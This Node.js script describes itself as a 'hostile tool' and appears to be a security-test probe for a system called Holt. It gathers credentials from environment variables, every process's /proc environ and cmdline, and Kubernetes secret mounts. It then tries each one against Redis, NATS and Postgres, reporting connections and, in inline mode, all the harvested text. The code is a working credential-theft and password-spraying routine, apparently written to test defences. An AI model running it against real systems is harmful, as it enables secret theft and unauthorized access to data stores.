// A hostile tool: looks everywhere a tool can look for a store credential, then tries every one it
// found (and none) against the stores. Prints a Holt tool result; writes its full report to a file.
// Usage: node credential-probe.mjs '<json: {report, targets: {redis, nats, postgres}, pgModule?}>'
import { readdirSync, readFileSync, statSync, writeFileSync } from 'node:fs';
import { createRequire } from 'node:module';
import { connect } from 'node:net';
import { join } from 'node:path';

const cfg = JSON.parse(process.argv[2] ?? '{}');
// Targets may come from a file written once the stores are up (their ports are not known before).
if (cfg.targetsFile) cfg.targets = JSON.parse(readFileSync(cfg.targetsFile, 'utf8'));
const seen = { environ: 0, cmdline: 0, files: 0, denied: 0 };
const texts = [];

function take(kind, read) {
  try {
    const t = read();
    texts.push(t);
    seen[kind]++;
  } catch {
    seen.denied++;
  }
}

take('environ', () =>
  Object.entries(process.env)
    .map(([k, v]) => `${k}=${v}`)
    .join('\n'),
);
for (const pid of readdirSync('/proc').filter((d) => /^\d+$/.test(d))) {
  take('environ', () => readFileSync(`/proc/${pid}/environ`, 'latin1').replaceAll('\0', '\n'));
  take('cmdline', () => readFileSync(`/proc/${pid}/cmdline`, 'latin1').replaceAll('\0', ' '));
}
// Where Kubernetes mounts Secrets and service account tokens, and where Holt's configs would be.
function walk(dir, depth = 0) {
  let names = [];
  try {
    names = readdirSync(dir);
  } catch {
    return;
  }
  for (const n of names) {
    const p = join(dir, n);
    let st;
    try {
      st = statSync(p);
    } catch {
      continue;
    }
    if (st.isDirectory() && depth < 6) walk(p, depth + 1);
    else if (st.isFile() && st.size < 1_000_000) take('files', () => readFileSync(p, 'latin1'));
  }
}
for (const d of ['/var/run/secrets', '/run/secrets', '/etc/holt', '/etc/redis', '/etc/nats']) walk(d);

// Candidates: credentials inside URLs, and every long token-like word.
const creds = new Map();
const all = texts.join('\n');
for (const m of all.matchAll(/\b(?:rediss?|nats|tls|postgres(?:ql)?):\/\/([^:@/\s]*):([^@/\s]+)@/g))
  creds.set(`${m[1]}:${m[2]}`, { user: decodeURIComponent(m[1]), pass: decodeURIComponent(m[2]) });
// Every variable's whole value that could be a password (no spaces or slashes, 16+ characters).
const words = new Set();
for (const m of all.matchAll(/^[A-Za-z_][A-Za-z0-9_]*=([^\s/]{16,})$/gm)) words.add(m[1]);
const USERS = {
  redis: ['', 'orchestrator', 'pup', 'operator'],
  nats: ['admin', 'orchestrator', 'pup', 'operator', 'holt'],
  postgres: ['holt', 'holt_app', 'holt_owner', 'holt_orchestrator', 'holt_pup', 'holt_operator', 'postgres'],
};
const triesFor = (store) => [
  { user: '', pass: '' },
  ...creds.values(),
  ...[...words].flatMap((w) => USERS[store].map((user) => ({ user, pass: w }))),
];

function talk(hostPort, send, done) {
  const [host, port] = hostPort.split(':');
  return new Promise((resolve) => {
    const sock = connect({ host, port: Number(port) });
    let buf = '';
    let over = false;
    const end = (r) => {
      if (over) return;
      over = true;
      sock.destroy();
      resolve(r);
    };
    sock.setTimeout(3000, () => end({ ok: false, error: 'timeout' }));
    sock.on('error', (e) => end({ ok: false, error: e.code ?? e.message }));
    sock.on('close', () => end({ ok: false, error: `closed: ${buf.trim().slice(-120)}` }));
    sock.on('connect', () => send(sock));
    sock.on('data', (d) => {
      buf += d.toString();
      const r = done(buf, sock);
      if (r) end(r);
    });
  });
}

const redisTry = (t, c) =>
  talk(
    t,
    (s) =>
      s.write(`${c.pass ? (c.user ? `AUTH ${c.user} ${c.pass}\r\n` : `AUTH ${c.pass}\r\n`) : ''}PING\r\n`),
    (b) =>
      b.includes('+PONG')
        ? { ok: true }
        : b.includes('-')
          ? { ok: false, error: b.trim().split('\r\n').at(-1) }
          : undefined,
  );

const natsTry = (t, c) => {
  let sent = false;
  return talk(
    t,
    () => undefined,
    (b, s) => {
      if (b.startsWith('INFO') && !sent) {
        sent = true;
        const auth = c.pass ? { user: c.user, pass: c.pass } : {};
        s.write(`CONNECT ${JSON.stringify({ verbose: false, pedantic: false, ...auth })}\r\nPING\r\n`);
        return undefined;
      }
      if (b.includes('PONG')) return { ok: true };
      if (b.includes('-ERR')) return { ok: false, error: b.slice(b.indexOf('-ERR')).trim() };
      return undefined;
    },
  );
};

async function pgTry(t, c) {
  if (!cfg.pgModule) return { ok: false, error: 'no pg module' };
  const pg = createRequire(cfg.pgModule)('pg');
  const [host, port] = t.split(':');
  const client = new pg.Client({
    host,
    port: Number(port),
    user: c.user || 'postgres',
    password: c.pass || undefined,
    database: 'holt',
    connectionTimeoutMillis: 3000,
  });
  client.on('error', () => undefined);
  try {
    await client.connect();
    await client.end();
    return { ok: true };
  } catch (e) {
    return { ok: false, error: String(e.message ?? e).slice(0, 120) };
  }
}

const attempts = [];
const run = { redis: redisTry, nats: natsTry, postgres: pgTry };
for (const [store, targets] of Object.entries(cfg.targets ?? {}))
  for (const t of targets)
    for (const c of triesFor(store)) {
      const t0 = performance.now();
      const r = await run[store](t, c);
      const ms = Math.round(performance.now() - t0);
      attempts.push({ store, target: t, user: c.user, withPassword: Boolean(c.pass), ms, ...r });
    }

const report = { seen, candidates: creds.size + words.size, texts: all, attempts };
if (cfg.report) writeFileSync(cfg.report, JSON.stringify(report));
const connected = attempts.filter((a) => a.ok).length;
process.stdout.write(
  `${JSON.stringify({
    artefact_type: 'ProbeReport',
    // inline (in a pod, where no file of the test can be written): the whole report is the payload.
    artefact_payload: JSON.stringify(
      cfg.inline ? report : { seen, candidates: report.candidates, attempts: attempts.length, connected },
    ),
    summary: `probe: ${attempts.length} attempts, ${connected} connected`,
    structural_type: 'Terminal',
  })}\n`,
);
// A refused client may leave a timer or socket behind; the report is out, so stop here.
process.exit(0);
